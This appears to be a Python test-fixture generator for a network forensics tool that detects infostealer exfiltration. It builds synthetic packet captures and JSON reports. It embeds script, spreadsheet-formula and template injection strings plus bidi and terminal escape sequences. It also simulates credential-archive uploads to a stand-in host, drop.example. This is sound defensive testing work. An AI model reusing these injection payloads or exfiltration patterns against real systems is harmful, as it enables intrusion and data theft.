"""What the pages are made of: committed cases, a capture of hostile text, records of thousands of thefts."""

import json
import struct
import subprocess
import zlib
import zipfile
import io
from pathlib import Path

# Everything that ever broke out of a page, a terminal or a table, in one text.
HOSTILE = ("</script></style></title><script>window.broken=1</script><img src=x onerror=window.broken=1>"
           "<a href=\"javascript:window.broken=1\">x</a>\" onmouseover=\"window.broken=1' =cmd|'/C calc'!A0 {{7*7}} ${7*7}")
# Text that turns, hides and colours: shown, never obeyed.
STEERING = "\u202egnp.exe\u2066\u200b\x1b[31mred\x1b]0;title\x07\x9b2J\ufeff"


def run(program, *args):
    done = subprocess.run([program, *map(str, args)], capture_output=True, text=True, encoding="utf-8")
    if done.returncode not in (0, 1):
        raise SystemExit(f"{args}: {done.returncode} {done.stderr[-400:]}")
    return done.stdout


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Capture:
    """A pcap file of one host that talks to some others."""

    def __init__(self):
        self.data = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1)
        self.time = 1_770_000_000.0

    def packet(self, source, target, protocol, payload, after=0.01):
        self.time += after
        ends = bytes(map(int, source.split("."))) + bytes(map(int, target.split(".")))
        if protocol == 6:
            pseudo = ends + struct.pack("!BBH", 0, 6, len(payload))
            payload = payload[:16] + struct.pack("!H", checksum(pseudo + payload)) + payload[18:]
        head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0) + ends
        head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
        frame = b"\x02\0\x5e\0\x53\x01\x02\0\x5e\0\x53\x02\x08\0" + head + payload
        whole = int(self.time)
        self.data += struct.pack("<IIII", whole, int((self.time - whole) * 1e6), len(frame), len(frame)) + frame

    def talk(self, client, port, server, service, turns):
        """A TCP conversation; each turn is who speaks and what."""
        ends = {"c": [client, port, 1000], "s": [server, service, 9000]}

        def send(side, flags, data=b""):
            (source, sport, seq), (target, dport, ack) = ends[side], ends["s" if side == "c" else "c"]
            head = struct.pack("!HHIIBBHHH", sport, dport, seq, ack if flags & 16 else 0, 0x50, flags, 65535, 0, 0)
            self.packet(source, target, 6, head + data)
            ends[side][2] += len(data) + (1 if flags & 3 else 0)

        send("c", 2)
        send("s", 18)
        send("c", 16)
        for side, data in turns:
            for at in range(0, len(data), 1400):
                send(side, 24, data[at:at + 1400])
        send("c", 17)
        send("s", 17)
        send("c", 16)


def stolen(names):
    """An archive of stolen things."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for n, name in enumerate(names):
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 2, 3, 4, 6)), zlib.compress(str(n).encode() * 4000))
    return out.getvalue()


def hostile_capture(path):
    """Theft in which every name is out to break what shows it."""
    capture = Capture()
    bad = HOSTILE.replace("\r", "").encode()
    steering = STEERING.encode("utf-8", "replace")
    loot = stolen(["Passwords.txt", "Cookies/Chrome.txt", "Screenshot.png", "System.txt", f"Autofill/{HOSTILE[:120]}.txt", f"{STEERING}.txt", "=1+1.txt"])
    for n, host in enumerate([b"drop.example" + bad[:180], b"a" * 65_000 + b".example", steering + b".example", b"plain.example"]):
        body = (b"--b\r\nContent-Disposition: form-data; name=\"" + bad[:60].replace(b'"', b"") + b"\"; filename=\"" + steering +
                bad[:80].replace(b'"', b"") + b".zip\"\r\n\r\n" + loot + b"\r\n--b--\r\n")
        head = (b"POST /gate.php?" + bad.replace(b" ", b"+")[:400] + b" HTTP/1.1\r\nHost: " + host +
                b"\r\nUser-Agent: " + bad + steering + b"\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: " +
                str(len(body)).encode() + b"\r\n\r\n")
        answer = b"HTTP/1.1 200 " + steering + b"\r\nContent-Length: 2\r\n\r\nOK"
        capture.talk("192.0.2.10", 50_000 + n, f"203.0.113.{n + 5}", 80, [("c", head + body), ("s", answer)])
        capture.time += 20
    Path(path).write_bytes(capture.data)


def hostile_report(report, path):
    """A report, of which every name is hostile: what `map` must take from others."""
    document = json.loads(report)
    for finding in document["findings"]:
        finding["title"] = HOSTILE + STEERING
        finding["server"]["names"] = [HOSTILE + STEERING, "x" * 65_536 + ".example", "=cmd.example"]
        finding["victim"]["names"] = [STEERING + HOSTILE]
        finding["family"] = {"name": HOSTILE, "confidence": "high", "rule": HOSTILE}
        finding["loot"] = {"categories": {HOSTILE: 3}}
    for capture in document["captures"]:
        capture["path"] = STEERING + HOSTILE
    Path(path).write_text(json.dumps(document), encoding="utf-8")


def compact(line):
    """As the program writes it: records are known by how they begin."""
    return json.dumps(line, separators=(",", ":")) + "\n"


def many(program, case, path, count):
    """Records of one theft, again and again, by as many hosts to servers of as many names."""
    lines = [json.loads(line) for line in run(program, "flows", case).splitlines()]
    captures = [line for line in lines if line["type"] == "capture"]
    flows = [line for line in lines if line["type"] == "flow"]
    with open(path, "w", encoding="utf-8") as out:
        for line in captures:
            out.write(compact(line))
        for n in range(count):
            client = f"10.1.{n // 250}.{n % 250 + 1}"
            server = f"{'203.0.113' if n // 250 % 2 else '198.51.100'}.{n % 250 + 1}"
            for flow in flows:
                flow["client"]["addr"], flow["server"]["addr"] = client, server
                flow["id"] = f"{int(flow['id'], 16) + n & (1 << 64) - 1:016x}"
                for exchange in flow.get("http", []):
                    exchange["host"] = f"c{n}.example"
                out.write(compact(flow))
        out.write(compact(lines[-1]))


def infrastructure(folder, servers):
    """Reports of an invented family's servers: some share victims, keys and requests."""
    folder.mkdir(parents=True, exist_ok=True)
    families = ["Vidar", "LokiBot", "StealC", "RedLine", "AgentTesla", None]
    for n in range(servers):
        family = families[n * 7 % 11 % len(families)]
        bare = n % 3 == 0
        server = {"addrs": [f"203.0.113.{n % 250 + 1}" if n < 250 else f"198.51.100.{n % 250 + 1}"],
                  "names": [] if bare else [f"panel-{n:03}.example"], "ports": [80 if n % 2 else 443], "transport": "tcp",
                  "app": "http" if n % 2 else "tls"}
        if n % 10 in (1, 2):
            server["certificates"] = [{"sha256": f"{n // 10:064x}", "subject": f"CN=host-{n // 10}", "issuer": f"CN=host-{n // 10}",
                                       "self_signed": True, "capture": 0, "frame": n + 3}]
        if n % 10 in (4, 5, 6):
            server["templates"] = [{"form": f"POST /api{n // 10}/{{n}}/log [Host, User-Agent, Content-Length]", "capture": 0, "frame": n + 9}]
        victims = [n] if n % 4 else [n, n + 1, n // 2]
        findings = []
        for victim in victims:
            addr = f"10.1.{victim // 200}.{victim % 200 + 1}"
            finding = {"id": f"xf-{n:08x}{victim:08x}", "level": ["low", "medium", "high", "critical"][3 - n % 4 if n % 5 else 3],
                       "score": 12.5 + n % 40, "title": f"{7000 + n * 37} bytes sent to panel-{n:03}.example (passwords)",
                       "kinds": ["exfiltration"], "victim": {"addr": addr, "names": [f"PC-{victim:03}"], "users": ["erika"]},
                       "server": server, "first": f"2026-01-{n % 27 + 1:02}T03:04:05Z", "last": f"2026-01-{n % 27 + 1:02}T04:00:00Z",
                       "loot": {"categories": {"passwords": 3 + n % 9, "cookies": 40}},
                       "evidence": [{"capture": 0, "frames": [[n + 1, n + 40]], "community_id": "1:x", "filter": "f"}]}
            if family:
                finding["family"] = {"name": family, "confidence": "high", "rule": "r"}
            findings.append(finding)
        report = {"schema": "exfilscan/report/1", "captures": [{"path": f"case-{n:03}.pcap", "sha256": f"{n:064x}"}], "findings": findings}
        (folder / f"{n:03}.json").write_text(json.dumps(report), encoding="utf-8")
